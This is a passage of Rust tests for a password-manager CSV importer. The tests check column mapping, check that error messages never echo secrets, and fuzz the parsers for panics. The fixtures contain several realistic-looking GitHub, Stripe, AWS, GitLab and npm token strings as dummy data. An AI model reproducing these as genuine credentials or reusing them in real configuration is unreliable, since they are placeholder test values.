    fn onepassword_export_maps_its_columns_and_archived_flag() {
        let records = read_1password(&input(ONEPASSWORD)).unwrap();
        assert_eq!(records.len(), 2, "the secure note without a password is skipped");
        let r = &records[0];
        assert_eq!(r.name, "GitHub CI token");
        assert_eq!(r.url.as_deref(), Some("https://github.com"));
        assert_eq!(r.account.as_deref(), Some("ci-bot"));
        assert_eq!(r.tags, ["ci", "github"]);
        assert_eq!(r.notes.as_deref(), Some("Fine-grained PAT for the monorepo"));
        assert_eq!(records[1].tags, ["archived", "payments"]);
        assert_eq!(records[1].notes.as_deref(), Some("Replaced in May, \"keep\" for audit"));
        assert!(records[1].account.is_none());
    }

    #[test]
    fn older_onepassword_exports_with_website_and_other_orders_are_mapped_by_name() {
        let csv = b"title,website,password,username,notes\nnpm,https://npmjs.com,npm_EEtfjgVvVqE1SkHbn88HxjSI6bWHtP3fS2qH,me,\n";
        let records = read_1password(&input(csv)).unwrap();
        assert_eq!(records[0].url.as_deref(), Some("https://npmjs.com"));
        assert_eq!(records[0].account.as_deref(), Some("me"));
        let err = failure(read_1password(&input(b"Title,Url,Password\nnote,,\n")));
        assert!(err.contains("holds no entries with a password"), "{err}");
    }

    #[test]
    fn no_error_or_problem_contains_a_secret() {
        let misplaced = b"name,token,expires,provider,url\nx,ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d,\
                          ghp_KLzdocJ2isAjIhKtJ0RlgLKOmxgJTeKdNnFR,sk_live_Ig8xNbe3nNyjOq9wMxEhh2FD,AKIAx6kwXoIIXGvOoNZY\n";
        let mut texts = Vec::new();
        for bytes in [BASIC, SEMICOLON, INJECTION, BROKEN_QUOTE, NO_SECRET_COLUMN, &misplaced[..]] {
            match generic(bytes) {
                Ok((records, _)) => texts.extend(records.into_iter().flat_map(|r| r.problems)),
                Err(e) => texts.push(e.to_string()),
            }
        }
        for bytes in [KEEPASSXC, ONEPASSWORD] {
            for result in [read_keepassxc(&input(bytes)), read_1password(&input(bytes))] {
                match result {
                    Ok(records) => texts.extend(records.into_iter().flat_map(|r| r.problems)),
                    Err(e) => texts.push(e.to_string()),
                }
            }
        }
        let broken = [
            &b"name,token\na,\"ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d\"x\n"[..],
            b"name,token\na,ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d,glpat-FAc9QeWJKY40uvSwMFLZ\n",
            b"ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d,x\n",
        ];
        texts.extend(broken.iter().filter_map(|b| generic(b).err()).map(|e| e.to_string()));
        assert!(texts.len() > 10, "{texts:?}");
        assert_no_secret(&texts, SECRETS);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]

        #[test]
        fn never_panics_on_any_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
            let _ = read_generic(&input(&bytes), &ReadOptions::default());
            let _ = read_keepassxc(&input(&bytes));
            let _ = read_1password(&input(&bytes));
        }

        #[test]
        fn never_panics_on_csv_like_text(body in "[a-z,;\"\n\r=#' ]{0,400}") {
            for header in ["name,token,expires,tags\n", "Group;Title;Password;Created\n", "Title,Url,Password,Archived\n", ""] {
                let text = format!("{header}{body}");
                let _ = read_generic(&input(text.as_bytes()), &ReadOptions::default());
                let _ = read_keepassxc(&input(text.as_bytes()));
                let _ = read_1password(&input(text.as_bytes()));
            }
        }
    }
}
